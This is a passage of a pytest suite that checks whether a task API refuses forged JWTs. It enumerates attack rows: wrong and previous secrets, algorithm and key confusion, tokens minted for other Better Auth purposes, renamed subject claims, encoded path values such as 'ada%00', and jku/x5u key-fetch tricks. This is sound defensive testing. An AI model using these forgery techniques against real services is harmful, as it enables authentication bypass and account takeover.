            yield Attack(f"{algorithm} {name} wrong where settings name others", token, code, "named")
            token = forged(algorithm, NAMED | {name: ABSENT})
            yield Attack(f"{algorithm} {name} absent where settings name some", token, MISSING, "named")
        token = forged(algorithm, CLAIMS)
        yield Attack(f"{algorithm} of the URL's origin where settings name others", token, ISSUER, "named")
    token = forged("HS256", CLAIMS | {"aud": evil}, sign=mac(PREVIOUS))
    yield Attack("a previous secret, and another audience", token, AUDIENCE)
    token = forged("HS256", sign=mac(PREVIOUS))
    yield Attack("a previous secret where there is none", token, SIGNATURE, "secret")


def foreign_purposes() -> Rows:
    """Tokens that Better Auth signs for other purposes, and good tokens at other people's tasks."""
    mail = {"email": "ada@example.com", "userId": "ada", "iat": NOW, "exp": NOW + 3600}
    yield Attack("Better Auth's mail link", forged("HS256", mail), MISSING)
    cookie = {"session": {"token": "t", "userId": "ada"}, "user": {"id": "ada"}, "iat": NOW, "exp": NOW + 300}
    yield Attack("Better Auth's cookie cache", forged("HS256", cookie), MISSING)
    cache = CLAIMS | {"aud": "better-auth:session-cache"}
    yield Attack("Better Auth's session cache", forged(EDDSA, cache, typ="session-cache+jwt"), AUDIENCE)
    provided = CLAIMS | {"iss": f"{AUTH}/api/auth"}
    yield Attack("Better Auth's OAuth provider", forged(EDDSA, provided, typ="at+jwt"), ISSUER)
    for algorithm in ("HS256", EDDSA):
        names = ("SUB", "sub ", "userId", "user_id", "id", "email", "name", "preferred_username", "azp")
        nobody = good_claims(algorithm) | {"sub": ABSENT} | dict.fromkeys(names, "ada")
        yield Attack(f"{algorithm} sub under other names", forged(algorithm, nobody), MISSING)
        for other in ("bob", "Ada", "ADA", "ada%20", "ada%00", "%61d%61.", "me."):
            name = f"{algorithm} at the tasks of {other}"
            yield Attack(name, GOOD[algorithm], "not_your_tasks", path=f"/api/v1/{other}/tasks")


ATTACKS = [
    row
    for rows in (
        broken_structure, no_tokens_at_all, none, public_keys_as_secrets, wrong_secrets, other_keys,
        ecdsa_signatures, eddsa_signatures, rsa_signatures, headers, claims, foreign_rules, foreign_purposes,
    )
    for row in rows()
]  # fmt: skip


# The servers, and the issuer whose keys they fetch.


@pytest.fixture(scope="module")
def issuer() -> Iterator[Issuer]:
    """An issuer that publishes its keys."""
    with running_issuer() as issuer:
        issuer.keys = PUBLISHED
        yield issuer


@pytest.fixture(scope="module")
def servers(
    tmp_path_factory: pytest.TempPathFactory, database_url: str, issuer: Issuer
) -> Iterator[dict[str, Server]]:
    """Servers that trust a secret, a key set, both, and both with issuers and audiences by name."""
    secret = {"BETTER_AUTH_SECRET": SECRET}
    keys = {"BETTER_AUTH_URL": AUTH, "TASKCTL_JWKS_URL": issuer.jwks_url}
    both = {**secret, "BETTER_AUTH_SECRET_PREVIOUS": PREVIOUS, **keys}
    named = {**both, "TASKCTL_JWT_ISSUERS": NAMED["iss"], "TASKCTL_JWT_AUDIENCES": NAMED["aud"]}
    started: dict[str, Server] = {}
    try:
        for name, variables in {"both": both, "secret": secret, "keys": keys, "named": named}.items():
            started[name] = launch_server(
                tmp_path_factory.mktemp(name), TASKCTL_ENV="test", DATABASE_URL=database_url, **variables
            )
        for server in started.values():
            wait_until_ready(server)
        yield started
    finally:
        for server in started.values():
            server.process.terminate()
        for server in started.values():
            stop(server)


@pytest.fixture(scope="module")
def http() -> Iterator[httpx.Client]:
    """One client, whose connections stay open."""
    with httpx.Client(trust_env=False) as client:
        yield client


def send(http: httpx.Client, server: Server, token: str, path: str = "/api/v1/me/tasks") -> httpx.Response:
    value = b"Bearer " + token.encode("utf-8", "surrogatepass")
    return http.get(server.url + path, headers=[(b"Authorization", value)])


ACCEPTED = {
    **{f"both, {algorithm}": token for algorithm, token in GOOD.items()},
    **{f"keys, {algorithm}": GOOD[algorithm] for algorithm in ASYMMETRIC},
    **{f"named, {algorithm}": forged(algorithm, NAMED) for algorithm in Algorithm},
    "secret, HS256": GOOD[Algorithm.HS256],
    "both, a previous secret": forged("HS256", sign=mac(PREVIOUS)),
    "both, several audiences": forged(EDDSA, CLAIMS | {"aud": ["other", AUTH]}),
    "both, one of two keys of a name": forged(ES256, kid="twice"),
    "both, the other one": forged(RS256, kid="twice"),
}


@pytest.mark.parametrize("name", ACCEPTED)
def test_what_attacks_start_from_is_accepted(
    http: httpx.Client, servers: dict[str, Server], name: str
) -> None:
    """A good token of each algorithm opens the door of each server that trusts its signer."""
    answer = send(http, servers[name.partition(",")[0]], ACCEPTED[name])
    assert answer.status_code == 200, answer.text


@pytest.mark.parametrize("attack", ATTACKS, ids=[attack.name for attack in ATTACKS])
def test_attack_is_refused(http: httpx.Client, servers: dict[str, Server], attack: Attack) -> None:
    """Each attack is refused with its code and a challenge, and the answer repeats nothing of the token."""
    answer = send(http, servers[attack.server], attack.token, attack.path)
    assert answer.json()["code"] == attack.code, answer.text
    assert answer.status_code == (403 if attack.code == "not_your_tasks" else 401)
    assert answer.headers["content-type"] == "application/problem+json"
    if answer.status_code == 401:
        assert answer.headers["www-authenticate"].startswith("Bearer ")
    assert not [part for part in attack.token.split(".") if len(part) > 16 and part in answer.text]


def test_the_table_is_complete() -> None:
    """Every row has a name and a token of its own, and every refusal of a token that is sent occurs."""
    assert len({attack.name for attack in ATTACKS}) == len(ATTACKS) >= 150
    assert len({(attack.token, attack.server, attack.path) for attack in ATTACKS}) == len(ATTACKS)
    refusals = {error.code for error in Unauthenticated.__subclasses__()} - {"token_missing"}
    assert {attack.code for attack in ATTACKS} == refusals | {"not_your_tasks"}


def test_an_address_in_a_token_is_never_asked(http: httpx.Client, servers: dict[str, Server]) -> None:
    """A token makes the server fetch nothing from a place that the token names."""
    with running_issuer() as bystander:
        jwk = FOREIGN[RS256].public_jwk() | {"x5u": bystander.jwks_url}
        members = {"jku": bystander.jwks_url, "x5u": bystander.jwks_url, "jwk": jwk}
        for kid in (bystander.jwks_url, KEYS[RS256].kid):
            token = forged(
                RS256, CLAIMS | {"iss": bystander.url}, sign=signs(FOREIGN[RS256]), kid=kid, **members
            )
            assert send(http, servers["both"], token).status_code == 401
        assert bystander.hits == 0


def test_nothing_of_a_token_is_logged(http: httpx.Client, servers: dict[str, Server]) -> None:
    """Neither the claims nor the signature of any token, good or bad, is in the log; each refusal is."""
    tokens = [attack.token for attack in ATTACKS if attack.server == "both"] + list(GOOD.values())
    for token in tokens:
        send(http, servers["both"], token)
    log = until(
        lambda: (text := servers["both"].log.read_text()).count("auth_refused") >= len(ATTACKS) // 2 and text
    )
    signatures = {part for token in tokens for part in token.split(".")[1:] if len(part) > 16}
    assert not [part for part in signatures if part in log]
